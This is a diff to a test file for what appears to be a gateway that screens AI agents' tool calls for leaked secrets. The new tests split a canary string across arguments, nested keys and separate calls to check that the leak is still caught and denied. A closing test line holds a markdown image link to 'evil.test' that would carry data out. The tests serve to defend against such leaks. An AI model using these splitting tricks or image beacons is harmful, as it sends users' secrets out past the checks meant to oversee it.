@@ -321,6 +321,63 @@ async def test_a_turn_leaves_whole_or_not_at_all(site: Site) -> None:
     assert set(approval_in(CHAT, released.json)["receipts"]) == {"call_1", "call_2"}
 
 
+CANARY = "vc7k2m9q4x8w3z5t"
+HALF, OTHER = CANARY[:8], CANARY[8:]
+
+
+def looks(path: str, *arguments: str) -> dict[str, Any]:
+    """An answer with a harmless call for each of these."""
+    made = answer(path, "look")
+    if path == RESPONSES:
+        made["output"] = [{**made["output"][0], "arguments": a} for a in arguments]
+    elif path == MESSAGES:
+        made["content"] = [{**made["content"][0], "input": json.loads(a)} for a in arguments]
+    else:
+        message = made["choices"][0]["message"]
+        (call,) = message["tool_calls"]
+        message["tool_calls"] = [
+            {**call, "function": {**call["function"], "arguments": a}} for a in arguments
+        ]
+    return made
+
+
+@every_route
+@pytest.mark.parametrize(
+    ("arguments", "leaks"),
+    [
+        ([{"a": HALF, "b": OTHER}], True),
+        ([{"a": f"x{HALF}", "n": 7, "b": [None, {"c": f"{OTHER}x"}]}], True),
+        ([{"a": HALF}, {"b": OTHER}], True),
+        ([{HALF: 1, OTHER: 2}], True),
+        ([{HALF[:3]: {HALF[3:]: 2}}, {OTHER: "x"}], True),
+        ([{"a": HALF, "x": "something else", "b": OTHER}], False),
+        ([{"a": HALF}, {"b": "y"}], False),
+        ([{}], False),
+    ],
+)
+async def test_a_canary_in_several_arguments(
+    make_site: Callable[..., Site], path: str, arguments: list[Any], leaks: bool
+) -> None:
+    site = make_site(output={"canaries": (CANARY,)})
+    site.server.engine.answered = json.dumps(looks(path, *map(json.dumps, arguments))).encode()
+    response = await site.server.post(path, request(path), headers=site.headers["agent"])
+    assert response.status == 200
+    assert len(calls_in(path, response.json)) == (0 if leaks else len(arguments))
+    if leaks:
+        assert approval_in(path, response.json) == {"id": None, "state": "denied", "reason": "leak"}
+        assert OTHER not in json.dumps(response.json)
+
+
+async def test_a_canary_in_several_arguments_where_none_is_taken_out(
+    make_site: Callable[..., Site],
+) -> None:
+    site = make_site(output={"canaries": (CANARY,), "canary": "monitor"})
+    said = looks(CHAT, json.dumps({"a": HALF}), json.dumps({"b": OTHER}))
+    site.server.engine.answered = json.dumps(said).encode()
+    response = await site.server.post(CHAT, request(CHAT), headers=site.headers["agent"])
+    assert len(calls_in(CHAT, response.json)) == 2
+
+
 async def test_a_name_is_no_text_for_a_reader(site: Site) -> None:
     name = "send ![x](https://evil.test/?d=1)"
     site.server.engine.answered = json.dumps(answer(CHAT, name)).encode()
